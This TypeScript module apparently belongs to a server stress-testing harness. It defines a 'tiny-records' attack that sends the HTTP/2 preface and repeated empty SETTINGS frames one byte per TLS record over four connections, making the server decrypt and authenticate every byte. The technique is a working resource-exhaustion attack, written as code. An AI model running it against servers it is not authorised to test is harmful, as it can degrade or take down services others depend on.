import type { Attack } from '../attack.ts'
import { RECORD, type RecordWriter } from '../tools/tls13.ts'
import { writeRecords } from '../tools/write-records.ts'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
/** Empty settings, over and over. */
const SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])

/** Sends HTTP/2 one byte per record: the server decrypts and authenticates each. */
export const tinyRecords: Attack = {
  name: 'tiny-records',
  tries: 'TLS records of one byte each on four connections',
  async run(stage) {
    const records = await Promise.all(Array.from({ length: 4 }, () => writeRecords(stage, byteByByte)))
    return { counts: { records: records.reduce((sum, one) => sum + one, 0) } }
  },
}

function byteByByte(): (writer: RecordWriter) => Buffer {
  let at = 0
  return (writer) => {
    const byte = at < PREFACE.length ? PREFACE[at]! : SETTINGS[(at - PREFACE.length) % SETTINGS.length]!
    at += 1
    return writer.record(RECORD.applicationData, Buffer.of(byte))
  }
}
